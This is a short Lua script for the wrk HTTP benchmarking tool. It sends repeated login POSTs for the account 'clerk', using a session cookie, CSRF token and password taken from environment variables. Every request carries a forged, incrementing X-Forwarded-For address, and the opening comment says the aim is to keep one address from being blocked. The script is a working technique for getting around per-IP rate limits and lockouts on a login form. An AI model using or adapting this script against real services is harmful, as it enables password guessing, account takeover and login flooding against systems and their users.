-- Each from an address of its own, as people do; one address alone would be held.
local count = 0
wrk.headers["Cookie"] = os.getenv("VISIT")
wrk.headers["X-CSRF-TOKEN"] = os.getenv("VISIT_TOKEN")
wrk.headers["Content-Type"] = "application/x-www-form-urlencoded"
function request()
    count = count + 1
    wrk.headers["X-Forwarded-For"] = string.format("10.%d.%d.%d", math.floor(count / 65536) % 256, math.floor(count / 256) % 256, count % 256)
    return wrk.format("POST", nil, nil, "account=clerk&password=" .. os.getenv("PASSWORD"))
end
dofile(debug.getinfo(1, "S").source:match("@(.*/)") .. "answers.lua")(302)
